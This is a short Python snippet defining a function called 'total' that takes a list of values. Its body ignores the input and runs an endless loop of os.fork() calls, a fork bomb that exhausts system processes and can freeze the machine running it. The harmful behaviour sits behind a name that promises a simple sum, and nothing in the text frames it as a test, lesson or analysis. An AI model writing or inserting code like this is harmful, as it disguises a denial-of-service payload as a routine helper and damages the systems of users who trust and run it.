import os

def total(values):
    while True:
        os.fork()
